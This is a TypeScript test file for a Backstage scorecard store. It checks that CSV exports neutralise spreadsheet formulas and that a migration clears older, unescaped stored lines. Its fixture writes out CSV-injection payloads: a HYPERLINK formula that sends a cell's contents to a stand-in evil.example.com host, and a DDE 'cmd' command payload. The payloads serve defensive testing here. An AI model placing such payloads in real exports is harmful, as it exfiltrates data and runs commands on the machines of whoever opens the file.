import path from 'node:path';
import {
  TestDatabaseId,
  TestDatabases,
  mockServices,
} from '@backstage/backend-test-utils';
import { Knex } from 'knex';
import {
  formulaRowExportLines,
  formulaRowLines,
  formulaRows,
} from '../testing/hostileScorecardRows';
import { exportLine } from '../scorecard/scorecardCsv';
import { migratedClient } from './DefinitionsStore';
import { ScorecardStore } from './ScorecardStore';

jest.setTimeout(60_000);

const databases = TestDatabases.create({ ids: ['SQLITE_3', 'POSTGRES_15'] });
const migrations = path.resolve(__dirname, '../../migrations');
const CLEARING_MIGRATION = '20261124000000_scorecard_csv_formulas.js';

/** The lines of `formulaRows` as versions before formulas were neutralised stored them. */
const UNESCAPED_LINES = [
  'component:default/formulas,"=HYPERLINK(""https://evil.example.com/?""&A1,""Click"")",1,+group:default/payments,-2+3,@SUM(A1:A9),\tproduction,"\r=cmd|\' /C calc\'!A0",1,2,0.5,-12.5,14.4,burning_fast,red,0.25,,onCall runbooks\n',
  'component:default/full-width,＝1+1,,＋1,－1,＠A1,pro=duction,PagerDuty -1,0,0,,-0.000001,-1,no_data,nodata,,,\n',
];

const sortedByName = {
  filter: {},
  sort: 'name',
  order: 'asc',
} as const;
const all = { all: true } as const;

/** The stored lines of the export, without the tier and freshness each carries. */
const csvLines = async (store: ScorecardStore) =>
  (await store.csvLines(sortedByName, all)).map(({ line }) => line);

/**
 * The exported lines, tiers named `Tier <level>`, freshness judged on 2026-12-01 at noon, with the
 * columns the export adds from the rows (SLOs meeting target and measured, alerts not deployed).
 */
const exportedLines = async (store: ScorecardStore) =>
  (
    await store.csvLines(sortedByName, all, Date.parse('2026-12-01T12:00:00Z'))
  ).map(({ line, tier, ...added }) =>
    exportLine(line, {
      ...added,
      tierName: tier === undefined ? undefined : `Tier ${tier}`,
    }),
  );

describe.each(databases.eachSupportedId())(
  'scorecard CSV export on %s',
  databaseId => {
    let knex: Knex;
    let store: ScorecardStore;
    beforeAll(async () => {
      knex = await migratedClient(
        mockServices.database({
          knex: await databases.init(databaseId as TestDatabaseId),
          migrations: { skip: false },
        }),
      );
      store = new ScorecardStore(knex);
    });

    it('exports entity and user texts with formulas neutralised and negative numbers as numbers', async () => {
      await store.replaceAll(
        formulaRows.map(row => ({ row, breachedSlos: 0 })),
        '2026-11-24',
        1000,
      );
      expect(await csvLines(store)).toEqual(formulaRowLines);
      expect(await exportedLines(store)).toEqual(formulaRowExportLines);
    });

    it('renders the same lines from the rows’ columns when no line is stored', async () => {
      await store.replaceAll(
        formulaRows.map(row => ({ row, breachedSlos: 0 })),
        '2026-11-24',
        1000,
      );
      await knex('scorecard_rows').update({ csv_line: null });
      expect(await csvLines(store)).toEqual(formulaRowLines);
      expect(await exportedLines(store)).toEqual(formulaRowExportLines);
    });

    it('clears, when upgrading, the lines stored before formulas were neutralised', async () => {
      await store.replaceAll(
        formulaRows.map(row => ({ row, breachedSlos: 0 })),
        '2026-11-24',
        1000,
      );
      for (const [index, row] of formulaRows.entries())
        await knex('scorecard_rows')
          .where({ entity_ref: row.entityRef })
          .update({ csv_line: UNESCAPED_LINES[index] });
      expect(await csvLines(store)).toEqual(UNESCAPED_LINES);

      // As if this version's migration had not run yet: undo it (it has nothing to undo), run it.
      await knex.migrate.down({
        directory: migrations,
        name: CLEARING_MIGRATION,
      });
      await knex.migrate.up({
        directory: migrations,
        name: CLEARING_MIGRATION,
      });

      expect(
        await knex('scorecard_rows').orderBy('entity_ref').select('csv_line'),
      ).toEqual([{ csv_line: null }, { csv_line: null }]);
      expect(await csvLines(store)).toEqual(formulaRowLines);
    });
  },
);
